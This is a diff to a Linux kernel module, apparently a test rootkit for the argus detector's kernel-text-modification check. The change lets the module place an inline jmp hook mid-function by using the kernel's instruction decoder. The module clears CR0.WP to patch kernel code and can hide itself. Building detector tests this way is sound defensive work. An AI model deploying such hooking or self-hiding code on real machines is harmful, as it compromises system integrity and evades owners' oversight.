@@ -3,18 +3,22 @@
  * hookinl - a test rootkit for argus's Kernel Text Modified: an inline
  * hook, a jmp written over the first bytes of a kernel function.
  *
- * insmod hookinl.ko [sym=__x64_sys_sysinfo] [at=0] [hide=0]
- * writes "jmp hook" (e9 rel32) at sym+at, with CR0.WP cleared, as inline
+ * insmod hookinl.ko [sym=__x64_sys_sysinfo] [at=0] [insn=0] [hide=0]
+ * writes "jmp hook" (e9 rel32) at sym+at, past insn more whole
+ * instructions (the kernel's own decoder), with CR0.WP cleared, as inline
  * hooking rootkits do; the hook counts its calls (parameter hits) and
  * returns -EPERM (the function's own first bytes are gone).  at=0 writes
  * over the endbr64 and the ftrace site; at=4 (past the endbr64) over the
  * ftrace site alone; at=9 just after it, into the function's own code.
- * With hide=1 the module then hides itself (rkit.h).
+ * insn=N puts the jmp in the middle of the function, at an instruction
+ * boundary: a function never called (sym=__x64_sys_acct), or the guest
+ * crashes.  With hide=1 the module then hides itself (rkit.h).
  *
  * rmmod (or echo 1 >/proc/hookinl when hidden) puts the bytes back.  For
  * testing only; loaded in a disposable test guest.
  */
 #include <linux/proc_fs.h>
+#include <asm/insn.h>
 
 #include "rkit.h"
 
@@ -22,6 +26,8 @@ static char *sym = "__x64_sys_sysinfo";
 module_param(sym, charp, 0444);
 static int at;
 module_param(at, int, 0444);
+static int insn;
+module_param(insn, int, 0444);
 static int hide;
 module_param(hide, int, 0444);
 static ulong hits;
@@ -67,6 +73,18 @@ static int __init hookinl_init(void)
 	if (!fn)
 		return -ENOENT;
 	site = fn + at;
+	if (insn > 0) {
+		int (*decode)(struct insn *, const void *, int, enum insn_mode) =
+			(void *)rkit_lookup("insn_decode");
+		struct insn in;
+		if (!decode)
+			return -ENOENT;
+		for (int i = 0; i < insn; i++) {
+			if (decode(&in, (void *)site, MAX_INSN_SIZE, INSN_MODE_KERN) || !in.length)
+				return -EINVAL;
+			site += in.length;
+		}
+	}
 	handler = (ulong)hook;
 	rel = (long)hook - (long)(site + 5);
 	if (rel != (s32)rel)
@@ -77,7 +95,7 @@ static int __init hookinl_init(void)
 		return -ENOMEM;
 	rkit_poke((void *)site, jmp, sizeof(jmp));
 	patched = true;
-	pr_info("hookinl: %s+%d: jmp %px\n", sym, at, hook);
+	pr_info("hookinl: %s+%lu at %lx: jmp %lx\n", sym, site - fn, site, handler);
 	if (hide && rkit_hide()) {
 		unpatch();
 		remove_proc_entry("hookinl", NULL);
